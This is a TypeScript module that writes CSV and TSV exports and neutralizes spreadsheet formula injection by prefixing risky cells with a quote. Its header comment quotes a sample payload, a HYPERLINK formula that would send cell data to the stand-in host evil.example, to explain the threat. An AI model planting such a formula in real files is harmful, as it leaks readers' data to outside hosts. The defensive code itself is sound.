/**
 * The one writer of delimited text files the platform hands out (CSV reports, TSV exports), so
 * every such file is safe to open in a spreadsheet.
 *
 * Formula injection (CSV injection): a spreadsheet reads a cell starting with `=`, `+`, `-` or `@`
 * (also their full-width forms, and a leading tab or carriage return, which some applications
 * strip first) as a formula, so a user's `=HYPERLINK("http://evil.example/?"&A1,"…")` would run in
 * the reader's spreadsheet. Such a text cell is written with a leading `'`, which spreadsheets
 * take as "this is text". A plain signed number (`+573001234567`, `-1`, `-0.5`) cannot carry a
 * formula and is kept as it is, so phone numbers in E.164 and negative figures read as before.
 */

export type DelimitedFormat = 'csv' | 'tsv';
export type DelimitedValue = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** A text cell as a spreadsheet must show it: prefixed with `'` when it would start a formula. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** RFC 4180: a field with a quote, comma or line break is quoted, its quotes doubled. */
const csvField = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

/** TSV: tabs, line breaks and backslashes escaped (`\t`, `\n`, `\r`, `\\`), so a row is one line. */
const tsvField = (text: string) =>
  text.replace(/\\/g, '\\\\').replace(/\t/g, '\\t').replace(/\n/g, '\\n').replace(/\r/g, '\\r');

/** One cell: numbers as written, null/undefined empty, text neutralized then escaped for the format. */
export function delimitedCell(format: DelimitedFormat, value: DelimitedValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return String(value);
  const text = neutralizeFormula(value);
  return format === 'csv' ? csvField(text) : tsvField(text);
}

/** One row, without its line ending (CSV: comma separated; TSV: tab separated). */
export function delimitedRow(format: DelimitedFormat, values: DelimitedValue[]): string {
  return values.map((v) => delimitedCell(format, v)).join(format === 'csv' ? ',' : '\t');
}

/**
 * A whole file, header first, as UTF-8: CSV rows end with CRLF (RFC 4180), TSV rows with LF; the
 * last row ends with its line ending too.
 */
export function writeDelimited(format: DelimitedFormat, header: string[], rows: DelimitedValue[][]): Buffer {
  const eol = format === 'csv' ? '\r\n' : '\n';
  return Buffer.from([header, ...rows].map((r) => delimitedRow(format, r) + eol).join(''), 'utf8');
}
